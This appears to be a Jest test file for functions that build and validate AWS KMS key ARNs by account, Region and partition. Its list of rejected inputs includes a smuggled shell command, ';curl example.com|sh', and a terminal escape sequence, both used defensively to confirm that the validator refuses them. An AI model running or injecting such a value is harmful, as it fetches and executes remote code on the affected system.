import { isKeyArnIn, keyArnIn, placeText } from '../../../lib/aws/place';

const HERE = { account: '111122223333', region: 'eu-west-1' };
const ID = '1234abcd-12ab-34cd-56ef-1234567890ab';

test('a place is named by account and Region', () => {
  expect(placeText(HERE)).toBe('account 111122223333, eu-west-1');
});

test.each([
  [HERE, ID, `arn:aws:kms:eu-west-1:111122223333:key/${ID}`],
  [
    HERE,
    'mrk-1234abcd12ab34cd56ef1234567890ab',
    'arn:aws:kms:eu-west-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab',
  ],
  [{ ...HERE, region: 'cn-north-1' }, ID, `arn:aws-cn:kms:cn-north-1:111122223333:key/${ID}`],
  [{ ...HERE, region: 'us-gov-west-1' }, ID, `arn:aws-us-gov:kms:us-gov-west-1:111122223333:key/${ID}`],
])('a key of %j with the id %s has the ARN %s', (place, id, arn) => {
  expect(keyArnIn(place, id)).toBe(arn);
  expect(isKeyArnIn(place, arn)).toBe(true);
});

test.each([1, 64])('an id of %i letters is one', (length) => {
  expect(isKeyArnIn(HERE, keyArnIn(HERE, 'k'.repeat(length)))).toBe(true);
});

const ARN = keyArnIn(HERE, ID);
test.each([
  ['an empty text', ''],
  ['an id alone', ID],
  ['another account', ARN.replace('111122223333', '999988887777')],
  ['another Region', ARN.replace('eu-west-1', 'eu-west-2')],
  ['another partition', ARN.replace('arn:aws:', 'arn:aws-cn:')],
  ['another service', ARN.replace(':kms:', ':s3:')],
  ['an alias', ARN.replace(`key/${ID}`, 'alias/x')],
  ['every key', ARN.replace(ID, '*')],
  ['no id', ARN.replace(ID, '')],
  ['an id of 65 letters', ARN.replace(ID, 'k'.repeat(65))],
  ['a folder before the id', ARN.replace(ID, `x/${ID}`)],
  ['a shell command behind it', `${ARN};curl example.com|sh`],
  ['a line behind it', `${ARN}\n`],
  ['a control character in it', ARN.replace(ID, `k\u001b[2J`)],
])('%s is not the ARN of a key here', (_, text) => {
  expect(isKeyArnIn(HERE, text)).toBe(false);
});
